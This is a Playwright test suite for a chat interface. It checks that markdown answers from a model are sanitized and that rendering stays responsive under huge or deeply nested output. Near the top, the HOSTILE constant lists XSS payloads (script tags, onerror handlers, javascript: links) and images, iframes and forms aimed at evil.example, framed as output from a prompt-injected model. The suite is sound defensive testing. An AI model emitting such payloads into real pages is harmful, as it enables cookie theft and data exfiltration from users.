import type { Request } from '@playwright/test';
import { answerOver, ask, conversation, modelServer, openChat, turn } from './support/chat';
import { expect, test } from './support/fixtures';
import { measureMainThread } from './support/main-thread';

/** What a model steered by a prompt injection could write, each piece at once. */
const HOSTILE = [
  'Here is the fix. <img src=x onerror="alert(1)">',
  '<script>alert(document.cookie)</script>',
  '[Open the report](javascript:alert(document.domain)), [or this](data:text/html,<script>alert(1)</script>), [or](vbscript:msgbox) [that](/api/me)',
  '![chart](https://evil.example/collect?q=secret) and ![tracker][t]',
  '[t]: https://evil.example/pixel.png',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<svg onload="alert(1)"><circle r="5"/></svg>',
  '<a href="https://evil.example/a" onclick="alert(1)">raw link</a> <object data="https://evil.example/o"></object>',
  '<style>body { background: url(https://evil.example/css) }</style>',
  '<form action="https://evil.example/f"><button>Submit</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/m">',
  'A real link: [Oracle docs](https://docs.oracle.com/en/database/).',
].join('\n\n');

/** `text` in pieces of `size` characters, so tags and links are split across chunks. */
function pieces(text: string, size: number): string[] {
  return text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
}

test.describe('hostile answers', () => {
  test.beforeEach(async ({ urls }) => {
    await modelServer(urls).reset();
  });

  test('nothing runs, nothing loads, nothing leaves: markup is text, links are inert', async ({
    page,
    urls,
  }) => {
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const elsewhere: Request[] = [];
    const known = [urls.webOrigin, urls.apiOrigin, new URL(urls.issuer).origin];
    page.on('request', (request) => {
      if (!known.includes(new URL(request.url()).origin)) elsewhere.push(request);
    });
    await openChat(page);
    await modelServer(urls).script({ chunks: pieces(HOSTILE, 7), chunkIntervalMs: 1 });
    await ask(page, 'How do I fix my slow query?');
    await answerOver(page);

    const answer = turn(page);
    await expect(answer).toContainText('Here is the fix. <img src=x onerror="alert(1)">');
    await expect(answer).toContainText('<script>alert(document.cookie)</script>');
    await expect(answer).toContainText('Open the report (javascript:alert(document.domain))');
    await expect(answer).toContainText('[image: chart]');
    await expect(answer).toContainText('[image: tracker]');
    await expect(
      conversation(page).locator('img, iframe, script, svg, style, form, object, embed, meta'),
    ).toHaveCount(0);
    await expect(conversation(page).locator('[onerror], [onload], [onclick], [src]')).toHaveCount(
      0,
    );
    const link = answer.getByRole('link');
    await expect(link).toHaveCount(1);
    await expect(link).toHaveAttribute('href', 'https://docs.oracle.com/en/database/');
    await expect(link).toHaveAttribute('target', '_blank');
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');

    await answer.getByText('Open the report').click();
    await expect(page).toHaveURL(/\/chat$/);
    expect(dialogs).toEqual([]);
    expect(elsewhere.map((request) => request.url())).toEqual([]);
  });

  test('a 1 MB answer, 10,000 tiny pieces and nesting bombs: all arrive, the page stays responsive', async ({
    page,
    urls,
  }, testInfo) => {
    test.slow();
    const model = modelServer(urls);
    await openChat(page);

    // 1 MiB without a blank line: one paragraph, the worst case for re-lexing the last block.
    const kib = 'Latch and mutex waits grow when sessions hash to the same bucket. '
      .repeat(16)
      .slice(0, 1024);
    await model.script({ chunks: [kib], repeat: 1024, chunkIntervalMs: 0 });
    let done = await measureMainThread(page);
    await ask(page, 'A very long answer?');
    await answerOver(page);
    const megabyte = await done();
    expect(
      await turn(page)
        .locator('app-markdown')
        .evaluate((el) => el.textContent?.length),
    ).toBe(kib.repeat(1024).length);

    await model.script({ chunks: ['ab '], repeat: 10_000, chunkIntervalMs: 0 });
    done = await measureMainThread(page);
    await ask(page, 'Ten thousand pieces?');
    await answerOver(page);
    const tiny = await done();
    const pieceCount = (await turn(page).locator('app-markdown').textContent())?.match(/ab/g);
    expect(pieceCount).toHaveLength(10_000);

    // Nesting that marked's recursive lexer cannot take (stack overflow, minutes of lexing).
    await model.script({
      chunks: [
        '>'.repeat(3000) + ' quoted\n\n',
        '- '.repeat(3000) + 'listed\n\n',
        '*'.repeat(20_000),
      ],
    });
    done = await measureMainThread(page);
    await ask(page, 'Nested?');
    await answerOver(page);
    const nested = await done();
    await expect(turn(page)).toContainText('quoted');
    await expect(turn(page)).toContainText('listed');
    const depth = await turn(page)
      .locator('app-markdown')
      .evaluate((root) => {
        let deepest = 0;
        for (const element of Array.from(root.querySelectorAll('*'))) {
          let depth = 0;
          for (let node: Element | null = element; node && node !== root; node = node.parentElement)
            depth++;
          deepest = Math.max(deepest, depth);
        }
        return deepest;
      });
    expect(depth).toBeLessThan(100);

    testInfo.annotations.push(
      { type: 'main thread, nesting bombs', description: JSON.stringify(nested) },
      { type: 'main thread, 1 MiB answer', description: JSON.stringify(megabyte) },
      { type: 'main thread, 10,000 pieces', description: JSON.stringify(tiny) },
    );
    console.log('1 MiB answer:', megabyte, '\n10,000 pieces:', tiny, '\nnesting bombs:', nested);
    // Not frozen: the failure this guards against is a lexer stuck for seconds to minutes (deep
    // nesting, re-lexing a megabyte per piece). The figures themselves are a measurement (above,
    // and in the report's annotations); the bound leaves room for a machine whose cores are busy
    // elsewhere (a frame gap of 1.3 s was seen with both cores loaded).
    expect(megabyte.longestFrameGapMs).toBeLessThan(5_000);
    expect(tiny.longestFrameGapMs).toBeLessThan(5_000);
    expect(nested.longestFrameGapMs).toBeLessThan(5_000);
  });

  test('a 1,000-line answer renders smoothly: main-thread time per second of streaming', async ({
    page,
    urls,
  }, testInfo) => {
    test.slow();
    await openChat(page);
    const lines: string[] = [];
    for (let section = 1; lines.length < 1000; section++) {
      lines.push(
        `## Step ${section}: check the waits`,
        '',
        `Sessions in step ${section} wait on **log file sync**, \`db file sequential read\` and latches.`,
        '',
        '- compare the snapshots',
        '- read the top events',
        '',
        '| event | waits |',
        '|---|--:|',
        `| log file sync | ${section * 7} |`,
        '',
        '```sql',
        `SELECT event FROM v$system_event WHERE total_waits > ${section};`,
        '```',
        '',
      );
    }
    const answer = lines.slice(0, 1000).join('\n');
    // About three words per piece, as a model streams.
    await modelServer(urls).script({ chunks: pieces(answer, 18), chunkIntervalMs: 2 });
    const done = await measureMainThread(page);
    await ask(page, 'Walk me through a full tuning session.');
    await answerOver(page);
    const load = await done();
    await expect(turn(page).locator('app-markdown h4')).toHaveCount(
      lines.filter((line) => line.startsWith('## ')).length,
    );

    testInfo.annotations.push({
      type: 'main thread, 1,000 lines',
      description: JSON.stringify(load),
    });
    console.log('1,000-line answer:', load);
    // Bounds with room for a machine whose cores are busy with other work (the suite passed them
    // at a load average of 15 on 2 cores); the figures are what to watch: 280-550 ms/s, no long
    // task, 17-120 ms between frames at most (ADR 0021).
    expect(load.longestFrameGapMs).toBeLessThan(1_000);
    expect(load.busyMsPerS).toBeLessThan(850);
  });
});
